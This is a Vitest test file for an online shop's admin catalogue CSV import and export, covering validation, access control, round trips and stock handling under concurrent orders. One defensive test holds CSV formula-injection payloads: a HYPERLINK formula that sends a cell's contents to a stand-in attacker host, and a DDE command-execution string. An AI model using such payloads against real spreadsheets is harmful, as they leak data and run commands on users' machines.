import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { beforeAll, describe, expect, it } from 'vitest';
import { importReportSchema } from '@oja/shared/staff-variants';
import { createTestApp } from '@oja/testing/app/test-app';
import { makeCategory, makeSignedInUser } from '@oja/testing/factories/factories';
import { clientLine, lagosAddress, makeStockedProduct, stockOf } from '@oja/testing/factories/order-factories';
import { variantStockOf } from '@oja/testing/factories/variant-factories';

const { app, db } = await createTestApp();

let staff: { authorization: string };
beforeAll(async () => {
  staff = (await makeSignedInUser(db, { role: 'staff' })).auth;
  await makeCategory(db, { slug: 'csv-spices', title: 'Spices' });
  await makeCategory(db, { slug: 'csv-fabrics', title: 'Fabrics' });
});

const header =
  'product_slug,title,category,description,visible,weight_grams,sku,variant,price_ngn,price_usd,sale_price_ngn,sale_price_usd,stock';

const importCsv = (csv: string, dryRun: boolean) =>
  app.inject({
    method: 'POST',
    url: `/api/admin/catalogue/import${dryRun ? '?dry_run=true' : ''}`,
    headers: { ...staff, 'content-type': 'text/csv' },
    payload: csv,
  });

const exportCsv = async () => {
  const res = await app.inject({ url: '/api/admin/catalogue/export.csv', headers: staff });
  expect(res.statusCode).toBe(200);
  expect(res.headers['content-type']).toMatch(/^text\/csv/);
  return res.body;
};

/** What the database holds for the given slugs: products and their variants, for "nothing changed". */
async function snapshot(slugs: string[]) {
  const products = await db.selectFrom('products').selectAll().where('slug', 'in', slugs).orderBy('slug').execute();
  const variants = await db
    .selectFrom('product_variants')
    .selectAll()
    .where('product_id', 'in', products.length ? products.map((p) => p.id) : [0])
    .orderBy('id')
    .execute();
  return { products, variants };
}

const good = [
  header,
  'csv-ogiri,Ogiri Fermented Locust Beans,csv-spices,"Strong, savoury; for egusi.",true,120,,,1500.00,4.99,,,30',
  'csv-suya,Suya Spice,csv-spices,Kano grilling mix,true,,CSV-SUYA-100,100 g,1200.00,3.99,,,40',
  'csv-suya,Suya Spice,csv-spices,Kano grilling mix,true,,CSV-SUYA-500,500 g,5000.00,12.99,4500.00,,12',
  'csv-ankara,Ankara Print,csv-fabrics,Wax print,false,900,CSV-ANK-6,"Orange and blue, 6 yards",18000.00,34.99,,,5',
].join('\n');

describe('importing a catalogue CSV', () => {
  it('a dry run checks and reports what would change, and changes nothing', async () => {
    const res = await importCsv(good, true);
    expect(res.statusCode).toBe(200);
    const report = importReportSchema.parse(res.json());
    expect(report).toMatchObject({
      applied: false,
      dry_run: true,
      errors: [],
      products_created: 3,
      variants: 3,
      rows: 4,
    });
    expect((await snapshot(['csv-ogiri', 'csv-suya', 'csv-ankara'])).products).toHaveLength(0);
  });

  it('applies products, variants, prices and stock; the product shows its variants and their sum', async () => {
    const res = await importCsv(good, false);
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ applied: true, products_created: 3, errors: [] });
    const { products, variants } = await snapshot(['csv-ogiri', 'csv-suya', 'csv-ankara']);
    const suya = products.find((p) => p.slug === 'csv-suya')!;
    expect(suya).toMatchObject({ quantity: 52, price_ngn_kobo: 120000, visible: 1 });
    expect(variants.filter((v) => v.product_id === suya.id)).toMatchObject([
      { sku: 'CSV-SUYA-100', label: '100 g', quantity: 40, position: 0 },
      { sku: 'CSV-SUYA-500', label: '500 g', quantity: 12, sale_price_ngn_kobo: 450000, position: 1 },
    ]);
    expect(products.find((p) => p.slug === 'csv-ogiri')).toMatchObject({ quantity: 30, weight_grams: 120 });
    expect(products.find((p) => p.slug === 'csv-ankara')).toMatchObject({ visible: 0 });
    const api = await app.inject('/api/products/csv-suya/');
    expect(api.json().variants.map((v: { label: string }) => v.label)).toEqual(['100 g', '500 g']);
  });

  it('reports every error by line and column, and applies nothing, not even the good rows', async () => {
    const before = await snapshot(['csv-ogiri', 'csv-suya', 'csv-new-one']);
    const bad = [
      header,
      'csv-new-one,A new product,csv-spices,,true,,,,100.00,1.00,,,3', // line 2: fine
      'csv-ogiri,Ogiri,csv-spices,x,true,120,,,abc,4.99,,,30', // line 3: price_ngn
      'Bad Slug,Thing,csv-spices,,true,,,,1.00,1.00,,,1', // line 4: product_slug
      'csv-suya,Suya Spice,nowhere,Kano grilling mix,true,,CSV-SUYA-100,100 g,1200.00,3.99,,,-4', // line 5: category, stock
      'csv-x,X,csv-spices,,true,,CSV-SUYA-500,1 kg,10.00,1.00,20.00,,1', // line 6: sale price; SKU of csv-suya
      'csv-y,Y,csv-spices,,maybe,,ONLY-SKU,,10.00,1.00,,,1', // line 7: visible, variant label missing
    ].join('\n');
    for (const dryRun of [true, false]) {
      const res = await importCsv(bad, dryRun);
      expect(res.statusCode).toBe(400);
      expect(res.json()).toMatchObject({ code: 'invalid', detail: 'The file has 8 problems; nothing was imported.' });
      expect(res.json().errors[0]).toEqual({ path: 'line 3, price_ngn', message: expect.any(String) });
      const report = importReportSchema.parse(res.json().report);
      expect(report.applied).toBe(false);
      expect(report.errors.map((e) => [e.line, e.column])).toEqual([
        [3, 'price_ngn'],
        [4, 'product_slug'],
        [5, 'category'],
        [5, 'stock'],
        [6, 'sku'],
        [6, 'sale_price_ngn'],
        [7, 'visible'],
        [7, 'variant'],
      ]);
      for (const e of report.errors) expect(e.message.length).toBeGreaterThan(5);
    }
    expect(await snapshot(['csv-ogiri', 'csv-suya', 'csv-new-one'])).toEqual(before);
  });

  it('refuses a file whose header lacks a column or names an unknown one (line 1)', async () => {
    const res = await importCsv('product_slug,title,colour\ncsv-a,A,red\n', true);
    expect(res.statusCode).toBe(400);
    const columns = res.json().report.errors.map((e: { line: number; column: string }) => `${e.line}:${e.column}`);
    expect(columns).toEqual(
      expect.arrayContaining(['1:colour', '1:category', '1:price_ngn', '1:price_usd', '1:stock']),
    );
  });

  it('takes the CSV as JSON { csv } too', async () => {
    const res = await app.inject({
      method: 'POST',
      url: '/api/admin/catalogue/import?dry_run=true',
      headers: staff,
      payload: { csv: good },
    });
    expect(res.statusCode).toBe(200);
    expect(res.json()).toMatchObject({ dry_run: true, rows: 4, errors: [] });
  });

  it('is for staff only', async () => {
    const customer = (await makeSignedInUser(db)).auth;
    const res = await app.inject({
      method: 'POST',
      url: '/api/admin/catalogue/import?dry_run=true',
      headers: { ...customer, 'content-type': 'text/csv' },
      payload: good,
    });
    expect(res.statusCode).toBe(403);
    expect((await app.inject({ url: '/api/admin/catalogue/export.csv', headers: customer })).statusCode).toBe(403);
  });
});

describe('exporting the catalogue', () => {
  it('round trip: the export imports without errors, changes nothing, and exports the same again', async () => {
    await makeStockedProduct(db, {}, [
      { label: 'Red, 2 yards', quantity: 3, sku: 'RT-RED-2' },
      { label: 'Red, "4" yards', quantity: 1, sku: 'RT-RED-4' },
    ]);
    const first = await exportCsv();
    expect(first.split('\n')[0]).toBe(header);
    expect(first).toContain('RT-RED-4,"Red, ""4"" yards"');
    const slugs = [...first.matchAll(/^([a-z0-9-]+),/gm)].map((m) => m[1]!);
    const before = await snapshot(slugs);
    const res = await importCsv(first, false);
    expect(res.json()).toMatchObject({ applied: true, errors: [] });
    const after = await snapshot(slugs);
    const stable = <T extends { updated_at: number }>(rows: T[]) => rows.map(({ updated_at: _, ...r }) => r);
    expect(stable(after.products)).toEqual(stable(before.products));
    expect(stable(after.variants)).toEqual(stable(before.variants));
    expect(await exportCsv()).toBe(first);
  });
});

describe('formulas in the exported CSV (review N8)', () => {
  it('writes cells a spreadsheet would run with a leading apostrophe, and imports them back unchanged', async () => {
    const title = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const description = "@SUM(1+1)*cmd|' /C calc'!A0";
    const csv = [
      header,
      `csv-formula,"${title.replaceAll('"', '""')}",csv-spices,"${description}",true,100,,,1000.00,1.00,,,5`,
    ].join('\n');
    expect((await importCsv(csv, false)).json()).toMatchObject({ applied: true, errors: [] });
    const exported = await exportCsv();
    const line = exported.split('\n').find((l) => l.startsWith('csv-formula,'))!;
    expect(line).toContain(`"'=HYPERLINK(`);
    expect(line).toContain(`'@SUM(1+1)`);
    expect(line.split(',').some((cell) => /^"?[=+@-]/.test(cell))).toBe(false);
    expect((await importCsv(exported, false)).json()).toMatchObject({ applied: true, errors: [] });
    const kept = await db
      .selectFrom('products')
      .select(['title', 'description'])
      .where('slug', '=', 'csv-formula')
      .executeTakeFirstOrThrow();
    expect(kept).toEqual({ title, description });
  });
});

describe('SKUs that differ only in case (review N14)', () => {
  it("refuses a SKU that another product's variant has in other letters", async () => {
    await makeStockedProduct(db, {}, [{ label: 'Orange and blue, 6 yards', quantity: 4, sku: 'FAB-ANK-OB-6' }]);
    const csv = [header, 'csv-case,Case Test,csv-fabrics,,true,,fab-ank-ob-6,6 yards,1000.00,1.00,,,5'].join('\n');
    const res = await importCsv(csv, false);
    expect(res.json()).toMatchObject({ errors: [{ message: expect.stringContaining('belongs to a variant of') }] });
    expect((await snapshot(['csv-case'])).products).toEqual([]);
  });
});

describe('export → edit → import while orders are placed (review N5: lost updates)', () => {
  const exportWithStockWas = async () => {
    const res = await app.inject({ url: '/api/admin/catalogue/export.csv?stock_was=true', headers: staff });
    expect(res.statusCode).toBe(200);
    return res.body;
  };
  const order = async (productId: number, quantity: number, variantId?: number) => {
    const buyer = await makeSignedInUser(db);
    const res = await app.inject({
      method: 'POST',
      url: '/api/place-order/',
      payload: {
        address: lagosAddress,
        items: [{ ...clientLine(productId, quantity), ...(variantId ? { variant_id: variantId } : {}) }],
      },
      headers: buyer.auth,
      remoteAddress: '198.51.100.78',
    });
    expect(res.statusCode).toBe(201);
  };
  /** The exported file with `edit` applied to the rows of `slug` (cells by column name). */
  const edited = (csv: string, slug: string, edit: (row: Record<string, string>) => void) => {
    const [head, ...rows] = parse(csv) as string[][];
    const out = rows.map((cells) => {
      const row = Object.fromEntries(head!.map((h, i) => [h, cells[i]!]));
      if (row.product_slug === slug) edit(row);
      return head!.map((h) => row[h]!);
    });
    return stringify([head!, ...out]);
  };

  it('keeps the units ordered between export and import; the file changes stock only by its own edits', async () => {
    const { variants, ...product } = await makeStockedProduct(db, {}, [
      { label: 'Orange and blue, 6 yards', quantity: 40, sku: 'N5-OB-6' },
      { label: 'Orange and blue, 2 yards', quantity: 5, sku: 'N5-OB-2' },
    ]);
    const plain = await makeStockedProduct(db, { quantity: 20 });
    const exported = await exportWithStockWas();
    expect(exported.split('\n')[0]).toBe(`${header},stock_was`);
    // Orders between export and import: 3 of the 6 yards, 2 of the product without variants.
    await order(product.id, 3, variants[0]!.id);
    await order(plain.id, 2);
    expect(await variantStockOf(db, variants[0]!.id)).toBe(37);
    // Staff change a price of the 6 yards, receive 4 more of the 2 yards, and count 1 more of the plain one.
    let file = edited(exported, product.slug, (r) => {
      if (r.sku === 'N5-OB-6') r.price_ngn = '19000.00';
      if (r.sku === 'N5-OB-2') r.stock = String(Number(r.stock) + 4);
    });
    file = edited(file, plain.slug, (r) => (r.stock = String(Number(r.stock) + 1)));
    expect((await importCsv(file, false)).json()).toMatchObject({ applied: true, errors: [] });
    expect(await variantStockOf(db, variants[0]!.id)).toBe(37);
    expect(await variantStockOf(db, variants[1]!.id)).toBe(9);
    expect(await stockOf(db, product.id)).toBe(46);
    expect(await stockOf(db, plain.id)).toBe(19);
    const six = await db
      .selectFrom('product_variants')
      .select('price_ngn_kobo')
      .where('id', '=', variants[0]!.id)
      .executeTakeFirstOrThrow();
    expect(Number(six.price_ngn_kobo)).toBe(1_900_000);
  });

  it('refuses (409) a file whose stock cut the orders since have made impossible, and changes nothing', async () => {
    const { variants, ...product } = await makeStockedProduct(db, {}, [{ label: '1 kg', quantity: 6, sku: 'N5-KG-1' }]);
    const exported = await exportWithStockWas();
    await order(product.id, 5, variants[0]!.id); // 6 → 1
    const file = edited(exported, product.slug, (r) => {
      r.stock = '3'; // 3 fewer than exported, but only 1 is left
      r.price_ngn = '1700.00';
    });
    const res = await importCsv(file, false);
    expect(res.statusCode).toBe(409);
    expect(res.json()).toMatchObject({ code: 'conflict', detail: expect.stringContaining('Only 1 of "1 kg"') });
    expect(await variantStockOf(db, variants[0]!.id)).toBe(1);
    expect((await snapshot([product.slug])).variants.map((v) => Number(v.price_ngn_kobo))).toEqual([400_000]);
  });

  it('without stock_was (files from before) the stock becomes the number in the file, as before', async () => {
    const { variants, ...product } = await makeStockedProduct(db, {}, [
      { label: '250 g', quantity: 10, sku: 'N5-OLD-250' },
    ]);
    const exported = await exportCsv();
    expect(exported).not.toContain('stock_was');
    await order(product.id, 3, variants[0]!.id);
    expect((await importCsv(exported, false)).json()).toMatchObject({ applied: true, errors: [] });
    expect(await variantStockOf(db, variants[0]!.id)).toBe(10);
  });
});
